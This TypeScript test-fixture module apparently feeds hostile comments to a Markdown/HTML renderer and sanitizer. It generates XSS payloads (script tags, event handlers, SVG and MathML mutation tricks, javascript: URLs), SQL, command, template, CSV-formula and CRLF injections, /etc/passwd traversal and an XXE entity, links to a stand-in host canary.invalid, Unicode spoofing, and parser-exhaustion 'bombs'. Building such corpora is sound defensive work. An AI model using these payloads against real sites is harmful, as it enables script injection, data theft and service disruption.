/** One text that somebody might send to do harm, and the family that it comes from. */
export interface Attack {
  family: string;
  text: string;
}

/** What would run if anything did: the page notices. */
const JS = "__hit=1";
/** What would ask another site if anything did. */
const AWAY = "https://canary.invalid/p";

const cross = <A, B>(left: readonly A[], right: readonly B[]): [A, B][] => left.flatMap((a) => right.map((b): [A, B] => [a, b]));
const family = (name: string, texts: readonly string[]): Attack[] => texts.map((text) => ({ family: name, text }));
const chars = (...points: number[]) => String.fromCodePoint(...points);

const TAGS = family("tags", [
  `<script>${JS}</script>`, `<SCRIPT SRC=${AWAY}></SCRIPT>`, `<script\n>${JS}</script\n>`, `<script/x>${JS}</script/x>`, `<scr<script>ipt>${JS}</scr</script>ipt>`, `"><script>${JS}</script>`, `'><script>${JS}</script>`,
  `</title><script>${JS}</script>`, `</textarea><script>${JS}</script>`, `</style><script>${JS}</script>`, `--></script><script>${JS}</script>`, `<iframe src="javascript:${JS}"></iframe>`, `<iframe srcdoc="<script>parent.${JS}</script>"></iframe>`,
  `<object data="javascript:${JS}"></object>`, `<embed src="${AWAY}">`, `<base href="https://canary.invalid/">`, `<meta http-equiv="refresh" content="0;url=${AWAY}">`, `<link rel="stylesheet" href="${AWAY}">`,
  `<form action="${AWAY}"><input name="password" autofocus></form>`, `<button formaction="javascript:${JS}">press</button>`, `<isindex action="javascript:${JS}">`, `<applet code="x">`, `<frameset onload=${JS}>`, `<template><script>${JS}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${JS}>">`, `<xmp><script>${JS}</script></xmp>`, `<plaintext>`, `<listing><img src=x onerror=${JS}></listing>`, `<dialog open>over the page</dialog>`, `<portal src="${AWAY}">`, `<slot name="x"></slot>`,
]);

const HANDLERS = family("handlers", cross(
  ["img src=x", "svg", "body", "video src=x", "audio src=x", "details open", "input autofocus", "marquee", "select autofocus", "a href=#"],
  [`onerror=${JS}`, `onload="${JS}"`, `ONFOCUS='${JS}'`, `onanimationstart=&#95;&#95;hit=1`],
).map(([tag, handler]) => `<${tag} ${handler}>`));

const ODD_TAGS = family("odd tags", [
  `<img/src=x/onerror=${JS}>`, `<img src=x onerror\u0000=${JS}>`, `<img\tsrc=x\nonerror=${JS}>`, `<img src="x"onerror="${JS}">`, `<img src='x' onerror=\`${JS}\`>`, `<<img src=x onerror=${JS}>`, `<img src=x onerror=${JS}//`, `<\u0131mg src=x onerror=${JS}>`,
  `\uff1cscript\uff1e${JS}\uff1c/script\uff1e`, `<a href="#" style="position:fixed;inset:0;background:url(${AWAY})">over all</a>`, `<p style="background:url(javascript:${JS})">`, `<p class="mention" data-comment="1" id="comment-1">posing</p>`, `<x onclick=${JS}>x</x>`, `<img src=x:x onerror=${JS}>`, `<image src=x onerror=${JS}>`,
]);

const SVG = family("SVG, MathML and mutation", [
  `<svg><script>${JS}</script></svg>`, `<svg><animate onbegin=${JS} attributeName=x dur=1s>`, `<svg><a xlink:href="javascript:${JS}"><text y=20>x</text></a></svg>`, `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${JS}</script></svg>#x"></use></svg>`,
  `<svg><foreignObject><iframe src="javascript:${JS}"></iframe></foreignObject></svg>`, `<svg><set attributeName=href to=javascript:${JS}>`, `<svg><style><img src=x onerror=${JS}></style></svg>`, `<svg></p><style><a id="</style><img src=1 onerror=${JS}>">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${JS}></style></mglyph></table></mtext></math>`, `<math href="javascript:${JS}">x</math>`, `<math><maction actiontype="statusline#http://x" xlink:href="javascript:${JS}">x</maction></math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${JS}>`, `<table><td><svg><desc><td><title><a href="</title><img src=x onerror=${JS}>">`, `<svg><title><![CDATA[<script>${JS}</script>]]></title></svg>`, `]]><img src=x onerror=${JS}>`, `<![CDATA[><script>${JS}</script>]]>`,
  `<!--><img src=x onerror=${JS}>-->`, `<!-- --!><img src=x onerror=${JS}> -->`, `<?xml-stylesheet href="javascript:${JS}"?>`, `<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;`, `<a><b></a><script>${JS}</b></script>`,
]);

/** Addresses that run, each dressed up in another way. */
const SCHEMES = [
  `javascript:${JS}`, `JaVaScRiPt:${JS}`, `java\tscript:${JS}`, `java\nscript:${JS}`, ` javascript:${JS}`, `\u0001javascript:${JS}`, `javascript&colon;${JS}`, `&#106;avascript:${JS}`, `&#x6A;avascript&#58;${JS}`, `java&Tab;script:${JS}`, `javascript\\:${JS}`, `%6Aavascript:${JS}`,
  `javascript://%0a${JS}`, `data:text/html,<script>${JS}</script>`, `data:text/html;base64,PHNjcmlwdD5fX2hpdD0xPC9zY3JpcHQ+`, `vbscript:msgbox(1)`, `view-source:${AWAY}`, `blob:${AWAY}`, `file:///etc/passwd`, `//canary.invalid/p`, `\\\\canary.invalid\\p`, `https:javascript:${JS}`, `http://user:pass@canary.invalid/`,
];
/** Ways to write a link in Markdown and in HTML. */
const LINKS: readonly ((url: string) => string)[] = [
  (url) => `[a link](${url})`, (url) => `[a link](<${url}> "title")`, (url) => `<${url}>`, (url) => `![a picture](${url})`, (url) => `[a link][r]\n\n[r]: ${url}`, (url) => `<a href="${url}">a link</a>`,
];
const URLS = family("addresses", cross(SCHEMES, LINKS).map(([url, link]) => link(url)));

const MARKDOWN = family("Markdown", [
  `[x](https://x.example/"onmouseover="${JS})`, `[x](https://x.example/ 'title" onfocus="${JS}')`, `[<img src=x onerror=${JS}>](https://x.example)`, `[[nested](javascript:${JS})](https://x.example)`, `[![x](${AWAY}.png)](javascript:${JS})`, `![${"a".repeat(40)}](${AWAY}.gif)`, `\`\`\`"><script>${JS}</script>\nx\n\`\`\``,
  `\`<script>${JS}</script>\``, `    <script>${JS}</script>`, `| a | b |\n|---|---|\n| <script>${JS}</script> | [x](javascript:${JS}) |`, `[^1]\n\n[^1]: <img src=x onerror=${JS}>`, `# <script>${JS}</script>`, `Title\n=====\n<img src=x onerror=${JS}>`, `<details><summary>x</summary><script>${JS}</script></details>`,
  `[x]: javascript:${JS}\n\n[x]`, `[x]: <javascript:${JS}>\n[x][]`, `**bold <b onclick=${JS}>**</b>`, `~~<del onclick=${JS}>~~`, `<https://x.example/?"><script>${JS}</script>>`, `www.x.example/"onmouseover=${JS}`, `https://x.example/<script>${JS}</script>`, `mailto:a@x.example?bcc=b@x.example`, `[mail](mailto:a@x.example?subject=%0d%0aBcc:b@x.example)`,
  `@<script>${JS}</script>`, `@admin[x](javascript:${JS})`, `&lt;script&gt;${JS}&lt;/script&gt;`, `&amp;lt;script&amp;gt;${JS}`, `&#60;script&#62;${JS}&#60;/script&#62;`, `&#x3c;img src=x onerror=${JS}&#x3e;`, `&NewLine;&Tab;&lpar;&colon;`, `\\<script\\>${JS}\\</script\\>`, `- [ ] <input type=checkbox onclick=${JS}>`, `$\\href{javascript:${JS}}{x}$`, `:::script\n${JS}\n:::`, `---\ntitle: <script>\n---\nx`,
]);

const TEMPLATES = family("templates and other languages", [
  "{{constructor.constructor('__hit=1')()}}", "${__hit=1}", "#{__hit=1}", "<%= __hit=1 %>", "{%raw%}x{%endraw%}", "*{__hit=1}", "[[${7*7}]]", "{\"__proto__\":{\"hit\":1}}", "constructor.prototype.hit", "__proto__", "'; DROP TABLE \"Comment\"; --", "' OR '1'='1", "\\'; __hit=1; //", "`+__hit=1+`",
  "\u2028__hit=1\u2029", "=HYPERLINK(\"https://canary.invalid/p\",\"x\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "%0d%0aSet-Cookie: hit=1", "a\r\nBcc: victim@x.example\r\n\r\nbody", "../../../../etc/passwd", "%00", "%s%n%x", "$(touch hit)", "`touch hit`", "| touch hit", "*)(uid=*", "<!--#exec cmd=\"x\"-->", "\u001b]0;title\u0007\u001b[31mred",
]);

const BIDI = [0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068, 0x2069, 0x200e, 0x200f, 0x61c];
const HIDDEN = [0x200b, 0x2060, 0xfeff, 0xad, 0x34f, 0x115f, 0x1160, 0x17b4, 0x180e, 0x3164, 0xffa0, 0x2061, 0x206a, 0x2028, 0x2029, 0xfff9, 0xfffc, 0xfffe, 0x1d173, 0xe0001, 0x85, 0x7f, 0x1b, 0x8];
const UNICODE = [
  ...family("bidi", BIDI.map((point) => `order${chars(point)}gnp.exe (here)`)),
  ...family("bidi, unclosed", [`${chars(0x202e).repeat(60)}turned`, `${chars(0x2067)}a${chars(0x202e)}b${chars(0x2067)}c`, `x${chars(0x2069, 0x2069, 0x202c, 0x202c)}y`, `שלום ${chars(0x202d)}123 שלום`, `مرحبا (one) [two] <three>`, `${chars(0x2068)}עברית${chars(0x2069)} and ${chars(0x202b)}more`]),
  ...family("hidden", HIDDEN.map((point) => `pay${chars(point)}pal`)),
  ...family("hidden, alone", [chars(0x3164), chars(0x200b, 0x200b), chars(0x2800), chars(0xad), `${chars(0x115f)}${chars(0x1160)}`]),
  ...family("tags block", [`hi${[..."secret order"].map((letter) => chars(0xe0000 + letter.charCodeAt(0))).join("")}`, `${chars(0x1f3f4)}${[..."xxxxxx"].map((letter) => chars(0xe0000 + letter.charCodeAt(0))).join("")}${chars(0xe007f)}`]),
  ...family("marks", [0x300, 0x335, 0x351, 0x489, 0x20dd, 0xe47, 0x64b, 0x1ab0].map((point) => `Z${chars(point).repeat(40)}a${chars(point).repeat(30)}`)),
  ...family("selectors and joiners", [`x${chars(0xfe0f).repeat(30)}`, `a${chars(0x200d).repeat(20)}b`, `${chars(0x1f468, 0x200d).repeat(25)}`, `${chars(0xe0100).repeat(12)}x`, `x${chars(0xfe00, 0x200d, 0xfe01)}y`]),
  ...family("surrogates and private", ["a\ud800b", "\udfff tail", "head \ud83d", `${chars(0xe000)}x${chars(0xf8ff)}`, chars(0xf0000, 0x10fffd), `x${chars(0xfdd0)}y${chars(0x1ffff)}`]),
  ...family("look-alikes", ["раураl.com says", "Αdmin", "m\u043ederator", "ａｄｍｉｎ", "𝐚𝐝𝐦𝐢𝐧", "ⓜⓞⓓ", "rn0derator", "google\u2024com", "https://ex\u0430mple.org/", "a\u2215b@x.example", "\u212aelvin \u017fign"]),
  ...family("size", ["W".repeat(70), "﷽".repeat(20), "𒐫".repeat(20), "꧅".repeat(12), "\u{1242b}".repeat(10), "_".repeat(79), "\n".repeat(50), "\t".repeat(60), "字".repeat(75)]),
];

/** Every text, each once. */
export const ATTACKS: readonly Attack[] = [...TAGS, ...HANDLERS, ...ODD_TAGS, ...SVG, ...URLS, ...MARKDOWN, ...TEMPLATES, ...UNICODE];

/** Texts as long as a comment may be that are meant to keep whoever reads them busy. */
export const BOMBS: readonly string[] = [
  ">".repeat(8_000), "> ".repeat(4_000), "- ".repeat(4_000), "1. ".repeat(2_600), "> - ".repeat(2_000), "[".repeat(8_000), "![".repeat(4_000), "[a](".repeat(2_000), "[".repeat(4_000) + "]".repeat(4_000), "*".repeat(8_000), "*a ".repeat(2_600), "**a _b ".repeat(1_100),
  "_a__b_".repeat(1_300), "~~a".repeat(2_600), "`".repeat(8_000), Array.from({ length: 120 }, (_, at) => "`".repeat(at)).join("a"), "<".repeat(8_000), "<a ".repeat(2_600), "<!--".repeat(2_000), "<![CDATA[".repeat(880), "&".repeat(8_000), "&#x41;".repeat(1_300), "\\".repeat(8_000), "www.a.".repeat(1_300),
  "a@b.".repeat(2_000), "http://".repeat(1_100), "@a".repeat(4_000), Array.from({ length: 120 }, (_, at) => `${" ".repeat(2 * at)}- a`).join("\n").slice(0, 8_000), Array.from({ length: 400 }, (_, at) => `[r${at}]: /r${at + 1}\n[r${at}]`).join("\n").slice(0, 8_000), "|".repeat(8_000), "a\n".repeat(4_000), `${"x".repeat(7_990)}`, `${chars(0x301).repeat(7_999)}`, `${chars(0x200d).repeat(7_999)}`, chars(0x202e).repeat(7_999), "\u{1f468}\u200d".repeat(2_600),
];

/** A text without halves of letters, which no address can hold. */
export const whole = (text: string) => text.replace(/\p{Cs}/gu, "\ufffd");
